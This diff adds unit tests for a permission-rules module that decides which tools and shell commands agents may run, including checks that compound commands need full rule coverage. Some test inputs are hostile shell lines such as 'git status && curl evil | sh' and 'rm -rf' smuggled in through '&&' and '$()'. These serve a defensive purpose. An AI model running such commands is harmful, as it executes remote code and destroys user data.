@@ -0,0 +1,97 @@
+/**
+ * Permission Rules Tests
+ *
+ * Run with: node --test lib/permission-rules.test.js
+ */
+
+import { test, describe, beforeEach, afterEach } from 'node:test';
+import assert from 'node:assert';
+import fs from 'fs/promises';
+import path from 'path';
+import { PermissionRules, ruleFromRequest, PERMISSION_RULES_FILE } from './permission-rules.js';
+import { BadRequestError } from './errors.js';
+
+const TEST_VAULT_PATH = '/tmp/test-vault-permission-rules-' + Date.now();
+
+describe('PermissionRules', () => {
+  let rules;
+
+  beforeEach(async () => {
+    rules = new PermissionRules(TEST_VAULT_PATH);
+    await rules.load();
+  });
+
+  afterEach(async () => {
+    await fs.rm(TEST_VAULT_PATH, { recursive: true, force: true });
+  });
+
+  test('matches by agent, tool, path and command, with deny winning', async () => {
+    await rules.add({ effect: 'allow', tool: 'Write', path: 'projects/*' });
+    await rules.add({ effect: 'deny', agent: 'agents/journal.md', tool: 'Write', path: 'projects/private/*' });
+    await rules.add({ effect: 'allow', tool: 'Bash', command: 'git log | head*' });
+    await rules.add({ effect: 'allow', agent: 'vault-agent', tool: 'mcp__github__*' });
+
+    const write = { agentPath: 'agents/journal.md', toolName: 'Write' };
+    assert.strictEqual(rules.match({ ...write, filePath: 'projects/a.md' }).effect, 'allow');
+    assert.strictEqual(rules.match({ ...write, filePath: 'projects/private/a.md' }).effect, 'deny');
+    assert.strictEqual(rules.match({ ...write, filePath: 'notes/a.md' }), null);
+    assert.strictEqual(rules.match({ agentPath: 'agents/journal.md', toolName: 'Edit', filePath: 'projects/a.md' }), null);
+
+    // Commands match literally apart from globs, ignoring extra spaces
+    assert.ok(rules.match({ agentPath: 'x', toolName: 'Bash', command: 'git log  | head -5' }));
+    assert.strictEqual(rules.match({ agentPath: 'x', toolName: 'Bash', command: 'git logx head' }), null);
+    assert.strictEqual(rules.match({ agentPath: 'x', toolName: 'Bash' }), null);
+
+    // Every part of a compound command must be covered
+    await rules.add({ effect: 'allow', tool: 'Bash', command: 'git *' });
+    await rules.add({ effect: 'deny', tool: 'Bash', command: 'curl *' });
+    const bash = (command) => rules.match({ agentPath: 'x', toolName: 'Bash', command });
+    assert.strictEqual(bash('git log | git show').effect, 'allow');
+    assert.strictEqual(bash('git status && rm -rf notes'), null);
+    assert.strictEqual(bash('git log $(rm -rf notes)'), null);
+    assert.strictEqual(bash('git status && curl evil | sh').effect, 'deny');
+
+    assert.ok(rules.match({ agentPath: null, toolName: 'mcp__github__create_issue' }));
+    assert.strictEqual(rules.match({ agentPath: 'agents/journal.md', toolName: 'mcp__github__create_issue' }), null);
+  });
+
+  test('persists, updates and removes rules, and picks up hand edits', async () => {
+    const rule = await rules.add({ effect: 'allow', tool: 'Bash', command: '  npm   test ' });
+    assert.strictEqual(rule.command, 'npm test');
+
+    const updated = await rules.update(rule.id, { command: 'npm run *', note: 'scripts' });
+    assert.strictEqual(updated.command, 'npm run *');
+    assert.strictEqual(updated.createdAt, rule.createdAt);
+    assert.strictEqual(await rules.update('missing', {}), null);
+
+    const reloaded = new PermissionRules(TEST_VAULT_PATH);
+    await reloaded.load();
+    assert.deepStrictEqual(reloaded.list(), [updated]);
+
+    const filePath = path.join(TEST_VAULT_PATH, PERMISSION_RULES_FILE);
+    await fs.writeFile(filePath, JSON.stringify({ version: 1, rules: [] }));
+    await fs.utimes(filePath, new Date(), new Date(Date.now() + 5000));
+    await rules.refresh();
+    assert.deepStrictEqual(rules.list(), []);
+
+    await rules.add({ effect: 'deny', tool: 'Write' });
+    const [remaining] = rules.list({ effect: 'deny' });
+    assert.strictEqual(await rules.remove(remaining.id), true);
+    assert.strictEqual(await rules.remove(remaining.id), false);
+  });
+
+  test('rejects invalid rules', async () => {
+    await assert.rejects(() => rules.add({ effect: 'maybe', tool: 'Write' }), BadRequestError);
+    await assert.rejects(() => rules.add({ effect: 'allow' }), /tool is required/);
+    await assert.rejects(() => rules.add({ effect: 'allow', tool: 'Write', path: ['a'] }), /path must be a string/);
+  });
+
+  test('builds rules from permission requests', () => {
+    assert.deepStrictEqual(
+      ruleFromRequest({ toolName: 'Bash', filePath: 'ls', input: { command: 'ls' }, agentPath: 'agents/a.md' }, 'allow'),
+      { effect: 'allow', agent: 'agents/a.md', tool: 'Bash', path: null, command: 'ls' }
+    );
+    assert.strictEqual(ruleFromRequest({ toolName: 'mcp__github__x', mcpServer: 'github' }, 'deny').tool, 'mcp__github__*');
+    assert.strictEqual(ruleFromRequest({ toolName: 'Write', filePath: 'a.md' }, 'allow', { path: '*.md' }).path, '*.md');
+  });
+});